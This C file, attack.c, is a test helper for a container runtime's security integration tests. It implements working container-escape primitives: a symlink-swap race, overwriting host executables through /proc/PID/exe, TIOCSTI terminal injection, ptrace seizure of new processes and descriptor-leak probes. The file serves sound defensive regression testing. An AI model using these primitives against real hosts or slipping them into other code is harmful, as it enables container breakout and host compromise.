/*
 * attack.c - what a hostile container or its friend on a shared volume does; for tests/integration/security_*.bats.
 *
 * attack swap TARGET DIRECTORY...: on the host: exchanges each directory with a symlink to TARGET for ever.
 * attack overwrite [NAME]: in a container: opens the executable of every process that appears (where it shares the
 * host's pids: only of those called NAME), and writes to it when nobody executes it any more.  Prints "ready", then
 * "opened COMM", and "WROTE COMM" where it succeeded.
 * attack type: pushes a character into each terminal it has or can open, and prints what the kernel says.
 * attack fds: prints "fd N PATH" for each descriptor that it was given.
 * attack trace: in a container: traces every process that appears, as ptrace(2) lets it.  Prints "ready", then
 * "traced", and "HELD BEFORE EXEC" for one that it had before its last execve(2): only the program itself is its own.
 * attack unclosed runlet|init|both PROGRAM ARGUMENT...: executes it in a world where close_range(2) says that it did
 * it, and didn't: called by runlet itself, by init, or by both.  init is told by its low addresses.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/fs.h>
#include <linux/seccomp.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* No attacker outlives its test for long. */
#define LIFE_S 60
#define OVERWRITE_TRIES 200

static int swap(const char *target, char **directories)
{
	char link[4096];

	for (char **directory = directories; *directory; directory++) {
		snprintf(link, sizeof(link), "%s.link", *directory);
		if ((mkdir(*directory, 0755) < 0 && errno != EEXIST) || symlink(target, link) < 0) {
			perror(link);
			return 1;
		}
	}
	puts("ready");
	fflush(stdout);
	for (;;) {
		for (char **directory = directories; *directory; directory++) {
			snprintf(link, sizeof(link), "%s.link", *directory);
			(void)syscall(SYS_renameat2, AT_FDCWD, *directory, AT_FDCWD, link, RENAME_EXCHANGE);
		}
	}
}

/* A descriptor of an executable that is open for reading is opened once more, for writing, by its magic link. */
static void overwrite_one(int pid, const char *wanted)
{
	char path[64], name[32] = "?";
	int fd, comm;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	comm = open(path, O_RDONLY | O_CLOEXEC);
	if (comm >= 0 && read(comm, name, sizeof(name) - 1) > 0)
		name[strcspn(name, "\n")] = '\0';
	close(comm);
	if (wanted && strcmp(name, wanted) != 0) {
		close(fd);
		return;
	}
	printf("opened %s\n", name);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < OVERWRITE_TRIES; i++) {
		int writable = open(path, O_WRONLY | O_CLOEXEC);

		if (writable >= 0 && write(writable, "#!/evil\n", 8) > 0) {
			printf("WROTE %s\n", name);
			i = OVERWRITE_TRIES;
		}
		close(writable);
		usleep(100);
	}
	fflush(stdout);
	close(fd);
}

static _Noreturn void overwrite(const char *wanted)
{
	int last = getpid();

	puts("ready");
	fflush(stdout);
	for (;;) {
		for (int pid = last + 1; pid < last + 8; pid++) {
			char path[32];

			snprintf(path, sizeof(path), "/proc/%d", pid);
			if (access(path, F_OK) < 0)
				continue;
			overwrite_one(pid, wanted);
			last = pid;
		}
	}
}

static void type_into(const char *what, int fd)
{
	char character = 'Z';

	if (fd < 0)
		printf("%s: open: %s\n", what, strerror(errno));
	else
		printf("%s: %s\n", what, ioctl(fd, TIOCSTI, &character) == 0 ? "PUSHED" : strerror(errno));
}

static int type(void)
{
	static const char *const names[] = { "/dev/tty", "/dev/console", "/dev/pts/0", "/proc/self/fd/0" };
	char what[16];

	for (int fd = 0; fd <= 2; fd++) {
		snprintf(what, sizeof(what), "fd %d", fd);
		type_into(what, fd);
	}
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++)
		type_into(names[i], open(names[i], O_RDWR | O_CLOEXEC));
	return 0;
}

static int fds(void)
{
	DIR *dir = opendir("/proc/self/fd");
	struct dirent *entry;
	char target[4096];

	if (!dir) {
		perror("/proc/self/fd");
		return 1;
	}
	while ((entry = readdir(dir))) {
		ssize_t length = readlinkat(dirfd(dir), entry->d_name, target, sizeof(target) - 1);

		if (length < 0 || atoi(entry->d_name) == dirfd(dir))
			continue;
		target[length] = '\0';
		printf("fd %s %s\n", entry->d_name, target);
	}
	closedir(dir);
	return 0;
}

/* Who comes at the end of an execve(2) is let in: then the exec's stop is the first, before the interrupt's. */
static void trace_one(int pid)
{
	bool is_held = false;
	int status;

	if (ptrace(PTRACE_SEIZE, pid, NULL, PTRACE_O_TRACEEXEC) < 0)
		return;
	(void)ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	puts("traced");
	while (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status)) {
		is_held = is_held || status >> 16 == PTRACE_EVENT_STOP;
		if (is_held && status >> 16 == PTRACE_EVENT_EXEC)
			puts("HELD BEFORE EXEC");
		(void)ptrace(PTRACE_CONT, pid, NULL, status >> 16 ? 0L : (long)WSTOPSIG(status));
	}
	fflush(stdout);
}

static _Noreturn void trace(void)
{
	int last = getpid();

	puts("ready");
	fflush(stdout);
	for (;;) {
		for (int pid = last + 1; pid < last + 8; pid++) {
			char path[32];

			snprintf(path, sizeof(path), "/proc/%d", pid);
			while (access(path, F_OK) == 0) {
				trace_one(pid);
				last = pid;
			}
		}
	}
}

#define LOAD(member) BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, member))
/* The upper half of an address: little endian, as all that runlet runs on are. */
#define LOAD_HIGH(member) BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, member) + 4)

static int unclosed(const char *who, char **program)
{
	const bool is_runlet = strcmp(who, "init") != 0, is_init = strcmp(who, "runlet") != 0;
	struct sock_filter code[] = {
		LOAD(nr),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_close_range, 0, 2),
		LOAD_HIGH(instruction_pointer),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 0, 2, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
		BPF_STMT(BPF_RET | BPF_K, is_runlet ? SECCOMP_RET_ERRNO : SECCOMP_RET_ALLOW),
		BPF_STMT(BPF_RET | BPF_K, is_init ? SECCOMP_RET_ERRNO : SECCOMP_RET_ALLOW),
	};
	struct sock_fprog filter = { sizeof(code) / sizeof(code[0]), code };

	alarm(0);
	if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &filter) < 0) {
		perror("seccomp");
		return 1;
	}
	execv(program[0], program);
	perror(program[0]);
	return 1;
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";

	alarm(LIFE_S);
	if (strcmp(mode, "swap") == 0 && argc > 3)
		return swap(argv[2], argv + 3);
	if (strcmp(mode, "overwrite") == 0)
		overwrite(argc > 2 ? argv[2] : NULL);
	if (strcmp(mode, "type") == 0)
		return type();
	if (strcmp(mode, "fds") == 0)
		return fds();
	if (strcmp(mode, "trace") == 0)
		trace();
	if (strcmp(mode, "unclosed") == 0 && argc > 3)
		return unclosed(argv[2], argv + 3);
	return 1;
}
